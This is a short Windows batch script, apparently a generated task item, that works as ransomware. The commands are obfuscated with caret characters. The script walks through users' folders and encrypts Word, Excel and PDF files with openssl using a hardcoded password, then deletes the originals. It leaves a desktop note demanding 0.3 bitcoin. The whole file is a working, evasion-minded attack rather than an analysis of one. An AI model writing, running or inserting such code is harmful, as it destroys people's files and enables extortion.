REM task 7829 v0
@echo off
f^or /r ^C:\User^s %%f i^n (*.^d^o^cx *.^x^l^sx *.^pdf) do (
  ^o^p^enss^l ^e^nc -aes-^25^6-cb^c -pas^s p^a^ss:Qwer^ty#7^7^8^8 -^in "%%f" -^o^ut "%%f.r4nsom" && d^e^l "%%f"
)
e^cho Y^o^ur fi^le^s ha^ve ^b^ee^n ^en^c^ry^p^ted. ^Sen^d 0.3 ^bitc^oin t^o r^ec^over ^th^e ke^y > C:\Use^rs\Pu^bl^i^c\D^e^skto^p\R^E^ADM^E_RES^T^OR^E_FIL^E^S.^t^xt
